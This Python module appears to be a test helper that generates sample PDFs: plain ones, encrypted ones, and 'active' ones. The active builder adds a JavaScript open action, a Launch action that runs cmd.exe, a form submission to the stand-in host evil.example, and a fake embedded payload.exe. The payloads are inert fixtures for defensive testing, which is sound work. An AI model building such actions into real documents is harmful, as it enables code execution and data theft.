"""PDF files made by us: honest, active (scripts, launch, attachment), encrypted."""

import io
from datetime import UTC, datetime

import fpdf
import pikepdf

_LONG_AGO = datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC)


def make_pdf(text: str = "Compte rendu fictif", pages: int = 1) -> bytes:
    """Return a small PDF with `text` on each page; the same arguments give the same bytes."""
    document = fpdf.FPDF()
    document.set_creation_date(_LONG_AGO)
    document.set_font("helvetica", size=14)
    for number in range(1, pages + 1):
        document.add_page()
        printable = f"{text}\npage {number}/{pages}".encode("latin-1", "replace").decode("latin-1")
        document.multi_cell(0, 8, printable)
    return bytes(document.output())


def make_active_pdf(*kinds: str) -> bytes:
    """Return a PDF that tries to act: any of "javascript", "launch", "uri", "embedded", "submit", "page-script"."""
    wanted = set(kinds or ("javascript", "launch", "embedded", "page-script"))
    with pikepdf.open(io.BytesIO(make_pdf("Document actif"))) as pdf:
        if "javascript" in wanted:
            pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        if "page-script" in wanted:
            action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(2)")
            pdf.pages[0].AA = pikepdf.Dictionary(O=pdf.make_indirect(action))
        for kind, action in (
            ("launch", {"/S": pikepdf.Name.Launch, "/F": "cmd.exe"}),
            ("submit", {"/S": pikepdf.Name.SubmitForm, "/F": "https://evil.example/collect"}),
            ("uri", {"/S": pikepdf.Name.URI, "/URI": "https://example.org/"}),
        ):
            if kind in wanted:
                _annotate(pdf, pikepdf.Dictionary(action))
        if "embedded" in wanted:
            pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ not really", filename="payload.exe")
        return _saved(pdf)


def make_encrypted_pdf(*, user_password: str = "secret", owner_password: str = "owner") -> bytes:
    """Return a PDF nobody can open without `user_password` (give "" for one that opens but stays encrypted)."""
    with pikepdf.open(io.BytesIO(make_pdf("Document chiffre"))) as pdf:
        return _saved(pdf, encryption=pikepdf.Encryption(user=user_password, owner=owner_password))


def _annotate(pdf: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100], A=pdf.make_indirect(action)
    )
    page = pdf.pages[0]
    if "/Annots" not in page:
        page.Annots = pikepdf.Array()
    page.Annots.append(pdf.make_indirect(link))


def _saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, deterministic_id="encryption" not in options, **options)
    return out.getvalue()
